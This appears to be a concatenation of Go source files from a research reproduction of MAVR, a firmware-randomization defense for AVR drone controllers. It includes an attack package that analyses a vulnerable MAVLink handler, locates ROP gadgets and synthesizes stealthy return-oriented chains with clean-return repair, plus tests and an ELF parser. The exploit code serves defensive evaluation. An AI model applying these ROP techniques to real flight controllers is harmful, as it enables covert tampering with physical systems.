	if err != nil {
		t.Fatal(err)
	}
	wr := &WriterShape{
		LoadAddr:  a.WriteMem.PopsAddr,
		LoadPops:  a.WriteMem.PopRegs,
		StoreAddr: a.WriteMem.StoreAddr,
		StoreRegs: a.WriteMem.StoreRegs,
		QBase:     1,
		TailPops:  a.WriteMem.PopRegs,
		Fused:     true,
	}
	w := Write{Addr: 0x300, Vals: [3]byte{1, 2, 3}}

	unsaved := &gadget.StkMove{Addr: a.StkMove.Addr, SPHReg: 3, SPLReg: 2, PopRegs: []int{28, 29}}
	if _, err := stealthPayloadFor(a, unsaved, wr, w); !errors.Is(err, ErrPivotUnsaved) {
		t.Errorf("unsaved pivot regs error = %v, want ErrPivotUnsaved", err)
	}

	bloated := &gadget.StkMove{Addr: a.StkMove.Addr, SPHReg: a.StkMove.SPHReg, SPLReg: a.StkMove.SPLReg}
	for i := 0; i < 60; i++ {
		bloated.PopRegs = append(bloated.PopRegs, i%30)
	}
	if _, err := stealthPayloadFor(a, bloated, wr, w); !errors.Is(err, ErrPayloadTooLong) {
		t.Errorf("bloated pivot error = %v, want ErrPayloadTooLong", err)
	}
}

// Writer candidates must reject store runs that cannot carry three
// independent bytes (duplicate store regs, or stores sourced from Y
// itself).
func TestWriterCandidatesRejectsDegenerateRuns(t *testing.T) {
	runsVia := func(storeRegs [3]int) []*WriterShape {
		// Build a synthetic gadget carrying the store run in question.
		gd := &gadget.Gadget{Addr: 0x100}
		for i, r := range storeRegs {
			gd.Instrs = append(gd.Instrs, avr.Instr{Op: avr.OpSTDY, D: r, Q: i + 1, Words: 1})
		}
		for _, r := range []int{29, 28, storeRegs[0], storeRegs[1], storeRegs[2]} {
			gd.Instrs = append(gd.Instrs, avr.Instr{Op: avr.OpPOP, D: r, Words: 1})
		}
		gd.Instrs = append(gd.Instrs, avr.Instr{Op: avr.OpRET, Words: 1})
		return writerCandidates([]*gadget.Gadget{gd})
	}
	if ws := runsVia([3]int{5, 5, 7}); len(ws) != 0 {
		t.Errorf("duplicate store regs accepted: %+v", ws)
	}
	if ws := runsVia([3]int{28, 6, 7}); len(ws) != 0 {
		t.Errorf("Y-sourced store accepted: %+v", ws)
	}
	if ws := runsVia([3]int{5, 6, 7}); len(ws) != 1 || !ws[0].Fused {
		t.Errorf("healthy run not composed: %+v", ws)
	}
}
