package attack

import (
	"errors"
	"fmt"

	"mavr/internal/avr"
	"mavr/internal/elfobj"
	"mavr/internal/gadget"
	"mavr/internal/mavlink"
)

// Analysis is everything the attacker derives from the unprotected
// binary before crafting payloads: gadget addresses, the vulnerable
// handler's frame geometry, and the runtime constants (buffer address,
// original return address) observed by test-driving their own copy of
// the firmware.
type Analysis struct {
	// StkMove is the Fig. 4 SP-pivot gadget.
	StkMove *gadget.StkMove
	// WriteMem is the Fig. 5 arbitrary-write combination gadget.
	WriteMem *gadget.WriteMem
	// GadgetCount is the total ret-gadget census (§VII-A reports 953
	// for the test application).
	GadgetCount int

	// HandlerAddr is the word address of handle_param_set.
	HandlerAddr uint32
	// PushRegs are the handler prologue's pushed registers in push
	// order; the epilogue pops them in reverse.
	PushRegs []int
	// FrameBytes is the handler's stack frame allocation.
	FrameBytes int

	// S0 is the stack pointer at handler entry (deterministic on this
	// firmware). The 3-byte return address sits at S0+1..S0+3.
	S0 uint16
	// BufAddr is the data-space address of the stack buffer's first
	// byte — where the overflow copy begins.
	BufAddr uint16
	// OrigRet is the handler's legitimate return address (word).
	OrigRet uint32
	// OrigR28 and OrigR29 are the caller's frame-pointer bytes that the
	// stealthy attack must restore.
	OrigR28, OrigR29 byte
	// OrigRegs holds the caller's value of every register the handler
	// saves (observed at handler entry by the probe); the clean return
	// restores the full program context, not just the frame pointer.
	OrigRegs map[int]byte
}

// Analysis errors.
var (
	ErrNoHandler      = errors.New("attack: no handle_param_set symbol in binary")
	ErrBadPrologue    = errors.New("attack: handler prologue shape not recognized")
	ErrProbeFailed    = errors.New("attack: probe run never reached the handler")
	ErrPayloadTooLong = errors.New("attack: chain does not fit the vulnerable frame")
)

// Analyze performs the attacker's offline analysis of an application
// binary (flash image + ELF symbols).
func Analyze(elf *elfobj.File) (*Analysis, error) {
	a, err := AnalyzeFrame(elf)
	if err != nil {
		return nil, err
	}
	image := elf.Text
	sm, err := gadget.FindStkMove(image)
	if err != nil {
		return nil, err
	}
	wm, err := gadget.FindWriteMem(image, 5)
	if err != nil {
		return nil, err
	}
	a.StkMove = sm
	a.WriteMem = wm
	return a, nil
}

// AnalyzeFrame performs the gadget-independent half of the offline
// analysis: the handler symbol lookup, the prologue decode (saved
// registers, frame size) and the probe run that observes the handler's
// runtime stack constants. StkMove and WriteMem stay nil — chain
// synthesis fills the gadget roles from shaped candidates instead of
// the canonical Fig. 4/5 matches.
func AnalyzeFrame(elf *elfobj.File) (*Analysis, error) {
	a := &Analysis{}
	image := elf.Text
	a.GadgetCount = len(gadget.Scan(image, 24))

	var handler *elfobj.Symbol
	for i, s := range elf.Symbols {
		if s.Kind == elfobj.SymFunc && s.Name == "handle_param_set" {
			handler = &elf.Symbols[i]
			break
		}
	}
	if handler == nil {
		return nil, ErrNoHandler
	}
	a.HandlerAddr = handler.Value / 2

	if err := a.analyzePrologue(image); err != nil {
		return nil, err
	}
	if err := a.probe(image); err != nil {
		return nil, err
	}
	return a, nil
}

// analyzePrologue statically decodes the handler prologue to recover
// the saved-register list and frame size.
func (a *Analysis) analyzePrologue(image []byte) error {
	pc := a.HandlerAddr
	for i := 0; i < 32; i++ {
		in := avr.DecodeAt(image, pc)
		switch in.Op {
		case avr.OpPUSH:
			a.PushRegs = append(a.PushRegs, in.D)
		case avr.OpSUBI:
			if in.D == 28 {
				a.FrameBytes |= in.K
			}
		case avr.OpSBCI:
			if in.D == 29 {
				a.FrameBytes |= in.K << 8
			}
		case avr.OpSBIW:
			if in.D == 28 {
				a.FrameBytes = in.K
			}
		case avr.OpOUT:
			if in.A == avr.IOAddrSPL {
				// End of the SP-allocation idiom.
				if len(a.PushRegs) == 0 || a.FrameBytes == 0 {
					return ErrBadPrologue
				}
				return nil
			}
		case avr.OpIN:
			// frame-pointer load; keep scanning
		default:
			// arithmetic noise is fine
		}
		pc += uint32(in.Words)
	}
	return ErrBadPrologue
}

// probe test-drives the attacker's own copy of the firmware with a
// benign PARAM_SET packet and observes the stack state at handler
// entry.
func (a *Analysis) probe(image []byte) error {
	sim, err := NewSim(image)
	if err != nil {
		return err
	}
	probe := &mavlink.Frame{
		MsgID:   mavlink.MsgIDParamSet,
		Payload: (&mavlink.ParamSet{ParamID: "PROBE"}).Marshal(),
	}
	sim.SendFrame(probe)
	ok, fault := sim.RunUntilPC(a.HandlerAddr, 20_000_000)
	if !ok {
		return fmt.Errorf("%w (fault: %v)", ErrProbeFailed, fault)
	}
	c := sim.CPU
	a.S0 = c.SP()
	a.OrigRet = uint32(c.Data[a.S0+1])<<16 | uint32(c.Data[a.S0+2])<<8 | uint32(c.Data[a.S0+3])
	a.OrigR28 = c.Reg(28)
	a.OrigR29 = c.Reg(29)
	a.OrigRegs = make(map[int]byte, len(a.PushRegs))
	for _, r := range a.PushRegs {
		a.OrigRegs[r] = c.Reg(r)
	}
	a.BufAddr = a.S0 - uint16(len(a.PushRegs)) - uint16(a.FrameBytes) + 1
	return nil
}

// UseFixedGadgets swaps the analysis's gadgets for ones found in a
// fixed (never randomized) code region — the paper's §VI-B4 warning
// made concrete: the prototype's serial bootloader sits at a constant
// address, so its gadgets remain valid across every randomization.
// code is the fixed region's bytes and startByte its flash address.
func (a *Analysis) UseFixedGadgets(code []byte, startByte uint32) error {
	sm, err := gadget.FindStkMove(code)
	if err != nil {
		return err
	}
	wm, err := gadget.FindWriteMem(code, 5)
	if err != nil {
		return err
	}
	sm.Addr += startByte / 2
	wm.StoreAddr += startByte / 2
	wm.PopsAddr += startByte / 2
	a.StkMove = sm
	a.WriteMem = wm
	return nil
}

// PayloadLen is the payload size needed to exactly overwrite the frame,
// saved registers and 3-byte return address.
func (a *Analysis) PayloadLen() int { return a.FrameBytes + len(a.PushRegs) + 3 }

// epilogue pop slots: the handler pops PushRegs in reverse order from
// payload offset FrameBytes upward.
func (a *Analysis) popSlot(reg int) int {
	for i := 0; i < len(a.PushRegs); i++ {
		if a.PushRegs[len(a.PushRegs)-1-i] == reg {
			return a.FrameBytes + i
		}
	}
	return -1
}

// retSlot is the payload offset of the overwritten return address.
func (a *Analysis) retSlot() int { return a.FrameBytes + len(a.PushRegs) }
