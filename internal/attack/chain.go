package attack

import (
	"fmt"

	"mavr/internal/gadget"
)

// Write is one 3-byte arbitrary memory write performed via the
// write_mem_gadget (std Y+1..Y+3 of the three stored registers).
type Write struct {
	// Addr is the data-space address of the first written byte
	// (the gadget's Y is set to Addr-1).
	Addr uint16
	// Vals are the bytes stored to Addr, Addr+1, Addr+2.
	Vals [3]byte
}

// chain assembles the byte stream a pivoted stack pointer consumes:
// pop data and big-endian 3-byte return addresses ([ext, hi, lo] in
// ascending memory, the ATmega2560 convention visible in Fig. 6).
type chain struct {
	buf []byte
}

// ret appends a 3-byte return address for word address target.
func (c *chain) ret(target uint32) {
	c.buf = append(c.buf, byte(target>>16), byte(target>>8), byte(target))
}

// popFrame appends one byte per popped register, in pop order, taking
// values from vals (junk 0x61 otherwise).
func (c *chain) popFrame(popRegs []int, vals map[int]byte) {
	for _, r := range popRegs {
		if v, ok := vals[r]; ok {
			c.buf = append(c.buf, v)
		} else {
			c.buf = append(c.buf, 0x61)
		}
	}
}

// writeVals maps a Write onto the write_mem gadget's popped registers:
// Y (r28/r29) aims at Addr-1 and the three store-source registers carry
// the values.
func writeVals(a *Analysis, w Write) map[int]byte {
	y := w.Addr - 1
	return map[int]byte{
		28:                      byte(y),
		29:                      byte(y >> 8),
		a.WriteMem.StoreRegs[0]: w.Vals[0],
		a.WriteMem.StoreRegs[1]: w.Vals[1],
		a.WriteMem.StoreRegs[2]: w.Vals[2],
	}
}

// buildChain produces the byte stream executed after an SP pivot lands
// at (chainAddr-1): the incoming stk_move tail pops junk, then each
// Write is performed by alternating the write_mem gadget's pop half and
// store half, and the final store's pop frame loads r28/r29 with
// finalSP so a terminating stk_move pivots there.
//
// With finalSP = S0-6 and the last two writes repairing the original
// return address and saved frame pointer, the terminating stk_move's
// own pops and ret consume repaired stack bytes — the paper's "clean
// return".
func buildChain(a *Analysis, writes []Write, finalSP uint16) ([]byte, error) {
	if len(writes) == 0 {
		return nil, fmt.Errorf("attack: chain needs at least one write")
	}
	var c chain
	// Consumed by the tail pops of the stk_move gadget that pivoted here.
	c.popFrame(a.StkMove.PopRegs, nil)
	// Enter the write_mem gadget at its pop half to load the first
	// write's registers.
	c.ret(a.WriteMem.PopsAddr)
	c.popFrame(a.WriteMem.PopRegs, writeVals(a, writes[0]))
	for _, w := range writes[1:] {
		// Each store half performs the pending write, then its pop tail
		// loads the next one.
		c.ret(a.WriteMem.StoreAddr)
		c.popFrame(a.WriteMem.PopRegs, writeVals(a, w))
	}
	// Final store performs the last write; its pop tail aims the
	// terminating stk_move at finalSP.
	c.ret(a.WriteMem.StoreAddr)
	c.popFrame(a.WriteMem.PopRegs, map[int]byte{
		28: byte(finalSP),
		29: byte(finalSP >> 8),
	})
	c.ret(a.StkMove.Addr)
	return c.buf, nil
}

// repairWrites are the write_mem invocations that restore the smashed
// frame (§IV-D). The region [cleanReturnSP+1 .. S0+3] must afterwards
// hold: one byte per register the terminating stk_move pops (restoring
// the caller's saved r28/r29) followed by the handler's original 3-byte
// return address, so that the final pivot + pops + ret reproduce a
// normal handler return (SP == S0+3, PC == OrigRet, Y == caller's Y).
func repairWrites(a *Analysis) []Write { return repairWritesFor(a, a.StkMove) }

// repairWritesFor computes the repair for an arbitrary terminating
// pivot shape — chain synthesis pairs the frame geometry with candidate
// pivots that are not the canonical Fig. 4 gadget.
func repairWritesFor(a *Analysis, pv *gadget.StkMove) []Write {
	popLen := len(pv.PopRegs)
	start := cleanSPFor(a, pv) + 1
	desired := make([]byte, popLen+3)
	for i, r := range pv.PopRegs {
		switch {
		case r == 28:
			desired[i] = a.OrigR28
		case r == 29:
			desired[i] = a.OrigR29
		default:
			if v, ok := a.OrigRegs[r]; ok {
				desired[i] = v // full context restoration
			} else {
				desired[i] = 0x61
			}
		}
	}
	desired[popLen] = byte(a.OrigRet >> 16)
	desired[popLen+1] = byte(a.OrigRet >> 8)
	desired[popLen+2] = byte(a.OrigRet)

	var out []Write
	for off := 0; off < len(desired); off += 3 {
		if off+3 > len(desired) {
			off = len(desired) - 3 // final chunk re-covers overlap
		}
		out = append(out, Write{
			Addr: start + uint16(off),
			Vals: [3]byte{desired[off], desired[off+1], desired[off+2]},
		})
	}
	return out
}

// cleanReturnSP is where the terminating stk_move must point so its
// pops consume the repaired saved registers and its ret consumes the
// repaired return address, leaving SP exactly where a normal handler
// return would (S0+3).
func (a *Analysis) cleanReturnSP() uint16 { return cleanSPFor(a, a.StkMove) }

// cleanSPFor is cleanReturnSP for an arbitrary terminating pivot shape.
func cleanSPFor(a *Analysis, pv *gadget.StkMove) uint16 {
	return a.S0 - uint16(len(pv.PopRegs))
}
