package attack_test

import (
	"math/rand"
	"testing"

	"mavr/internal/attack"
	"mavr/internal/core"
	"mavr/internal/firmware"
)

// §VI-B4 made concrete: the prototype's serial bootloader sits at a
// fixed flash address, so gadgets inside it survive every
// randomization. An attacker using only bootloader gadgets defeats the
// randomization's goal for the write itself (the clean return still
// breaks, so the attack is detectable — but the damage is done).
func TestBootloaderGadgetsSurviveRandomization(t *testing.T) {
	img := genImage(t)
	if img.Bootloader == nil {
		t.Fatal("test app has no bootloader")
	}
	a := analyze(t, img)
	if err := a.UseFixedGadgets(img.Bootloader, firmware.BootloaderStart); err != nil {
		t.Fatal(err)
	}
	if a.StkMove.Addr*2 < firmware.BootloaderStart {
		t.Fatal("fixed gadget not in the boot section")
	}
	payload, err := attack.BuildV1(a, attack.GyroCfgWrite(0x6A))
	if err != nil {
		t.Fatal(err)
	}

	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(31))
	for trial := 0; trial < 3; trial++ {
		r, err := core.Randomize(pre, core.Permutation(rng, len(pre.Blocks)))
		if err != nil {
			t.Fatal(err)
		}
		// Overlay the (unrandomized, resident) bootloader.
		full := make([]byte, len(img.FullFlash()))
		copy(full, r.Image)
		copy(full[firmware.BootloaderStart:], img.Bootloader)

		sim, err := attack.NewSim(full)
		if err != nil {
			t.Fatal(err)
		}
		sim.SendFrame(attack.Frame(payload))
		_ = sim.Deliver(attack.Frame(payload), 300_000)
		if got := sim.CPU.Data[firmware.AddrGyroCfg]; got != 0x6A {
			t.Errorf("trial %d: bootloader-gadget write did not land (0x%02X)", trial, got)
		}
	}
}

// The same attack is impossible on a hardware-ISP build: with no
// resident bootloader there are no fixed gadgets to build on.
func TestHardwareISPRemovesFixedGadgets(t *testing.T) {
	spec := firmware.TestApp()
	spec.Bootloader = false
	img, err := firmware.Generate(spec, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	if img.Bootloader != nil {
		t.Fatal("ISP build still ships a bootloader")
	}
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.UseFixedGadgets(nil, firmware.BootloaderStart); err == nil {
		t.Error("found fixed gadgets without a bootloader")
	}
}
