package elfobj_test

import (
	"bytes"
	"errors"
	"math/rand"
	"reflect"
	"testing"

	"mavr/internal/elfobj"
)

func sampleFile() *elfobj.File {
	return &elfobj.File{
		Text:     []byte{0x0C, 0x94, 0x02, 0x00, 0x08, 0x95},
		Data:     []byte{0x10, 0x00, 0x20, 0x00},
		DataAddr: 0x200,
		Entry:    0,
		Symbols: []elfobj.Symbol{
			{Name: "main", Value: 0, Size: 4, Kind: elfobj.SymFunc},
			{Name: "loop", Value: 4, Size: 2, Kind: elfobj.SymFunc},
			{Name: "dispatch_table", Value: 0x200, Size: 4, Kind: elfobj.SymObject},
		},
	}
}

func TestMarshalParseRoundTrip(t *testing.T) {
	f := sampleFile()
	b, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	got, err := elfobj.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Text, f.Text) {
		t.Error("text mismatch")
	}
	if !bytes.Equal(got.Data, f.Data) {
		t.Error("data mismatch")
	}
	if got.DataAddr != f.DataAddr {
		t.Errorf("data addr = 0x%X, want 0x%X", got.DataAddr, f.DataAddr)
	}
	if !reflect.DeepEqual(got.Symbols, f.Symbols) {
		t.Errorf("symbols mismatch:\ngot  %+v\nwant %+v", got.Symbols, f.Symbols)
	}
}

func TestFuncSymbolsSorted(t *testing.T) {
	f := &elfobj.File{
		Symbols: []elfobj.Symbol{
			{Name: "c", Value: 30, Kind: elfobj.SymFunc},
			{Name: "a", Value: 10, Kind: elfobj.SymFunc},
			{Name: "obj", Value: 5, Kind: elfobj.SymObject},
			{Name: "b", Value: 20, Kind: elfobj.SymFunc},
		},
	}
	got := f.FuncSymbols()
	if len(got) != 3 {
		t.Fatalf("len = %d, want 3 (object symbols excluded)", len(got))
	}
	for i, want := range []string{"a", "b", "c"} {
		if got[i].Name != want {
			t.Errorf("FuncSymbols[%d] = %s, want %s", i, got[i].Name, want)
		}
	}
}

func TestParseRejectsNonELF(t *testing.T) {
	_, err := elfobj.Parse([]byte("this is not an elf file at all......................................."))
	if !errors.Is(err, elfobj.ErrNotELF) {
		t.Errorf("want ErrNotELF, got %v", err)
	}
}

func TestParseRejectsWrongMachine(t *testing.T) {
	f := sampleFile()
	b, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	b[18] = 0x3E // EM_X86_64
	_, err = elfobj.Parse(b)
	if !errors.Is(err, elfobj.ErrNotAVR) {
		t.Errorf("want ErrNotAVR, got %v", err)
	}
}

func TestParseRejectsTruncated(t *testing.T) {
	f := sampleFile()
	b, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []int{4, 20, 51, len(b) / 2} {
		if _, err := elfobj.Parse(b[:n]); err == nil {
			t.Errorf("no error for %d-byte truncation", n)
		}
	}
}

func TestRoundTripWithManySymbols(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	f := &elfobj.File{
		Text:     make([]byte, 4096),
		Data:     make([]byte, 128),
		DataAddr: 0x200,
	}
	rng.Read(f.Text)
	addr := uint32(0)
	for i := 0; i < 900; i++ {
		size := uint32(2 + rng.Intn(8)*2)
		f.Symbols = append(f.Symbols, elfobj.Symbol{
			Name:  symName(i),
			Value: addr,
			Size:  size,
			Kind:  elfobj.SymFunc,
		})
		addr += size
	}
	b, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	got, err := elfobj.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Symbols) != len(f.Symbols) {
		t.Fatalf("symbol count = %d, want %d", len(got.Symbols), len(f.Symbols))
	}
	if !reflect.DeepEqual(got.Symbols, f.Symbols) {
		t.Error("symbols corrupted through round trip")
	}
}

func symName(i int) string {
	const letters = "abcdefghij"
	name := []byte{'f', 'n', '_'}
	for i > 0 {
		name = append(name, letters[i%10])
		i /= 10
	}
	return string(name)
}

func TestEmptyDataSection(t *testing.T) {
	f := &elfobj.File{
		Text:    []byte{0x08, 0x95},
		Symbols: []elfobj.Symbol{{Name: "f", Value: 0, Size: 2, Kind: elfobj.SymFunc}},
	}
	b, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	got, err := elfobj.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Data) != 0 {
		t.Errorf("data = %v, want empty", got.Data)
	}
}

func TestDuplicateSymbolNamesShareStrtabEntries(t *testing.T) {
	f := &elfobj.File{
		Text: []byte{0x08, 0x95, 0x08, 0x95},
		Symbols: []elfobj.Symbol{
			{Name: "dup", Value: 0, Size: 2, Kind: elfobj.SymFunc},
			{Name: "dup", Value: 2, Size: 2, Kind: elfobj.SymFunc},
		},
	}
	b, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	got, err := elfobj.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Symbols) != 2 || got.Symbols[0].Name != "dup" || got.Symbols[1].Name != "dup" {
		t.Errorf("symbols = %+v", got.Symbols)
	}
}

// Parsing arbitrary mutations of a valid ELF must never panic.
func TestParseFuzzNeverPanics(t *testing.T) {
	f := sampleFile()
	b, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(13))
	for i := 0; i < 3000; i++ {
		mut := append([]byte(nil), b...)
		for k := 0; k < 1+rng.Intn(8); k++ {
			mut[rng.Intn(len(mut))] = byte(rng.Intn(256))
		}
		_, _ = elfobj.Parse(mut) // must not panic
	}
	for i := 0; i < 500; i++ {
		junk := make([]byte, rng.Intn(4096))
		rng.Read(junk)
		_, _ = elfobj.Parse(junk)
	}
}
