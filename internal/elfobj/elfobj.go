// Package elfobj reads and writes the minimal subset of ELF32 needed by
// the MAVR toolchain: an EM_AVR executable with .text and .data
// sections and a symbol table. The MAVR preprocessing phase (paper
// §VI-B2) parses these files to extract function boundaries and
// function-pointer locations before the binary is converted to Intel
// HEX and uploaded to the external flash chip.
package elfobj

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"sort"
)

// EMAVR is the ELF machine number for Atmel AVR.
const EMAVR = 83

// SymKind distinguishes function and data symbols.
type SymKind int

// Symbol kinds.
const (
	SymFunc SymKind = iota + 1
	SymObject
)

// Section indices used by this writer.
const (
	secNull = iota
	secText
	secData
	secSymtab
	secStrtab
	secShstrtab
	numSections
)

// Symbol is one symbol-table entry. Value is a byte address within the
// symbol's space (flash for SymFunc, data space for SymObject).
type Symbol struct {
	Name  string
	Value uint32
	Size  uint32
	Kind  SymKind
}

// File is a simplified AVR ELF executable.
type File struct {
	// Text is the flash image (byte addressed, loaded at address 0).
	Text []byte
	// Data is the initialized data image, loaded at DataAddr in SRAM
	// space by the startup code.
	Data []byte
	// DataAddr is the data-space (VMA) load address of Data.
	DataAddr uint32
	// DataLMA is the flash byte address where the .data load image is
	// stored (the program-header physical address); startup code copies
	// it to DataAddr. The MAVR preprocessor uses it to find and patch
	// function pointers inside the flat binary.
	DataLMA uint32
	// Symbols describes functions (in Text) and objects (in Data).
	Symbols []Symbol
	// Entry is the entry point byte address (normally 0, the reset
	// vector).
	Entry uint32
}

// FuncSymbols returns the function symbols sorted by start address, the
// order the MAVR preprocessor emits them in (paper §VI-B2).
func (f *File) FuncSymbols() []Symbol {
	var out []Symbol
	for _, s := range f.Symbols {
		if s.Kind == SymFunc {
			out = append(out, s)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Value < out[j].Value })
	return out
}

var (
	// ErrNotELF is returned when the magic bytes are wrong.
	ErrNotELF = errors.New("elfobj: not an ELF file")
	// ErrNotAVR is returned for ELF files of other machines.
	ErrNotAVR = errors.New("elfobj: not an AVR ELF file")
)

const (
	ehSize      = 52
	shSize      = 40
	symSize     = 16
	sttFunc     = 2
	sttObject   = 1
	shtProgbits = 1
	shtSymtab   = 2
	shtStrtab   = 3
)

// Marshal serializes the file as ELF32 little-endian.
func (f *File) Marshal() ([]byte, error) {
	shstr := newStrtab()
	names := [numSections]uint32{}
	names[secText] = shstr.add(".text")
	names[secData] = shstr.add(".data")
	names[secSymtab] = shstr.add(".symtab")
	names[secStrtab] = shstr.add(".strtab")
	names[secShstrtab] = shstr.add(".shstrtab")

	strtab := newStrtab()
	var symtab bytes.Buffer
	symtab.Write(make([]byte, symSize)) // null symbol
	for _, s := range f.Symbols {
		var ent [symSize]byte
		binary.LittleEndian.PutUint32(ent[0:], strtab.add(s.Name))
		binary.LittleEndian.PutUint32(ent[4:], s.Value)
		binary.LittleEndian.PutUint32(ent[8:], s.Size)
		info := byte(sttFunc)
		shndx := uint16(secText)
		if s.Kind == SymObject {
			info = sttObject
			shndx = secData
		}
		ent[12] = 1<<4 | info // STB_GLOBAL, type
		binary.LittleEndian.PutUint16(ent[14:], shndx)
		symtab.Write(ent[:])
	}

	type sec struct {
		body              []byte
		typ, flags, addr  uint32
		link, info, entsz uint32
	}
	secs := [numSections]sec{
		secText:     {body: f.Text, typ: shtProgbits, flags: 0x6 /* ALLOC|EXEC */},
		secData:     {body: f.Data, typ: shtProgbits, flags: 0x3 /* WRITE|ALLOC */, addr: f.DataAddr},
		secSymtab:   {body: symtab.Bytes(), typ: shtSymtab, link: secStrtab, info: 1, entsz: symSize},
		secStrtab:   {body: strtab.bytes(), typ: shtStrtab},
		secShstrtab: {body: shstr.bytes(), typ: shtStrtab},
	}

	var out bytes.Buffer
	out.Write(make([]byte, ehSize)) // header patched below

	// Program headers: one PT_LOAD per loadable section. The .data
	// entry's paddr carries the LMA (flash location of the load image).
	const phSize = 32
	phoff := uint32(out.Len())
	out.Write(make([]byte, 2*phSize)) // patched below
	offsets := [numSections]uint32{}
	for i := secText; i < numSections; i++ {
		offsets[i] = uint32(out.Len())
		out.Write(secs[i].body)
	}
	shoff := uint32(out.Len())
	for i := 0; i < numSections; i++ {
		var sh [shSize]byte
		if i != secNull {
			binary.LittleEndian.PutUint32(sh[0:], names[i])
			binary.LittleEndian.PutUint32(sh[4:], secs[i].typ)
			binary.LittleEndian.PutUint32(sh[8:], secs[i].flags)
			binary.LittleEndian.PutUint32(sh[12:], secs[i].addr)
			binary.LittleEndian.PutUint32(sh[16:], offsets[i])
			binary.LittleEndian.PutUint32(sh[20:], uint32(len(secs[i].body)))
			binary.LittleEndian.PutUint32(sh[24:], secs[i].link)
			binary.LittleEndian.PutUint32(sh[28:], secs[i].info)
			binary.LittleEndian.PutUint32(sh[32:], 1)
			binary.LittleEndian.PutUint32(sh[36:], secs[i].entsz)
		}
		out.Write(sh[:])
	}

	b := out.Bytes()
	copy(b, []byte{0x7F, 'E', 'L', 'F', 1 /*32-bit*/, 1 /*LE*/, 1 /*version*/})
	binary.LittleEndian.PutUint16(b[16:], 2) // ET_EXEC
	binary.LittleEndian.PutUint16(b[18:], EMAVR)
	binary.LittleEndian.PutUint32(b[20:], 1) // EV_CURRENT
	binary.LittleEndian.PutUint32(b[24:], f.Entry)
	binary.LittleEndian.PutUint32(b[28:], phoff)
	binary.LittleEndian.PutUint32(b[32:], shoff)
	binary.LittleEndian.PutUint16(b[40:], ehSize)
	binary.LittleEndian.PutUint16(b[42:], phSize)
	binary.LittleEndian.PutUint16(b[44:], 2) // phnum
	binary.LittleEndian.PutUint16(b[46:], shSize)
	binary.LittleEndian.PutUint16(b[48:], numSections)
	binary.LittleEndian.PutUint16(b[50:], secShstrtab)

	putPhdr := func(i int, off, vaddr, paddr, size, flags uint32) {
		o := int(phoff) + i*phSize
		binary.LittleEndian.PutUint32(b[o:], 1) // PT_LOAD
		binary.LittleEndian.PutUint32(b[o+4:], off)
		binary.LittleEndian.PutUint32(b[o+8:], vaddr)
		binary.LittleEndian.PutUint32(b[o+12:], paddr)
		binary.LittleEndian.PutUint32(b[o+16:], size)
		binary.LittleEndian.PutUint32(b[o+20:], size)
		binary.LittleEndian.PutUint32(b[o+24:], flags)
		binary.LittleEndian.PutUint32(b[o+28:], 1)
	}
	putPhdr(0, offsets[secText], 0, 0, uint32(len(f.Text)), 0x5 /* R+X */)
	putPhdr(1, offsets[secData], f.DataAddr, f.DataLMA, uint32(len(f.Data)), 0x6 /* R+W */)
	return b, nil
}

// Parse deserializes an ELF32 AVR executable produced by Marshal (or a
// compatible minimal layout).
func Parse(b []byte) (*File, error) {
	if len(b) < ehSize || !bytes.Equal(b[:4], []byte{0x7F, 'E', 'L', 'F'}) {
		return nil, ErrNotELF
	}
	if b[4] != 1 || b[5] != 1 {
		return nil, errors.New("elfobj: only ELF32 little-endian supported")
	}
	if binary.LittleEndian.Uint16(b[18:]) != EMAVR {
		return nil, ErrNotAVR
	}
	shoff := binary.LittleEndian.Uint32(b[32:])
	shentsize := binary.LittleEndian.Uint16(b[46:])
	shnum := binary.LittleEndian.Uint16(b[48:])
	shstrndx := binary.LittleEndian.Uint16(b[50:])
	if shentsize != shSize {
		return nil, fmt.Errorf("elfobj: unexpected section header size %d", shentsize)
	}
	type rawSec struct {
		name, typ, addr, off, size, link uint32
	}
	secs := make([]rawSec, shnum)
	for i := range secs {
		o := int(shoff) + i*shSize
		if o+shSize > len(b) {
			return nil, errors.New("elfobj: truncated section headers")
		}
		secs[i] = rawSec{
			name: binary.LittleEndian.Uint32(b[o:]),
			typ:  binary.LittleEndian.Uint32(b[o+4:]),
			addr: binary.LittleEndian.Uint32(b[o+12:]),
			off:  binary.LittleEndian.Uint32(b[o+16:]),
			size: binary.LittleEndian.Uint32(b[o+20:]),
			link: binary.LittleEndian.Uint32(b[o+24:]),
		}
	}
	body := func(s rawSec) ([]byte, error) {
		if int(s.off)+int(s.size) > len(b) {
			return nil, errors.New("elfobj: truncated section body")
		}
		return b[s.off : s.off+s.size], nil
	}
	if int(shstrndx) >= len(secs) {
		return nil, errors.New("elfobj: bad shstrndx")
	}
	shstr, err := body(secs[shstrndx])
	if err != nil {
		return nil, err
	}
	secName := func(s rawSec) string { return cstr(shstr, s.name) }

	f := &File{Entry: binary.LittleEndian.Uint32(b[24:])}
	// Program headers: recover the .data LMA (second PT_LOAD, if any).
	phoff := binary.LittleEndian.Uint32(b[28:])
	phentsize := binary.LittleEndian.Uint16(b[42:])
	phnum := binary.LittleEndian.Uint16(b[44:])
	if phoff != 0 && phentsize == 32 {
		for i := 0; i < int(phnum); i++ {
			o := int(phoff) + i*32
			if o+32 > len(b) {
				return nil, errors.New("elfobj: truncated program headers")
			}
			vaddr := binary.LittleEndian.Uint32(b[o+8:])
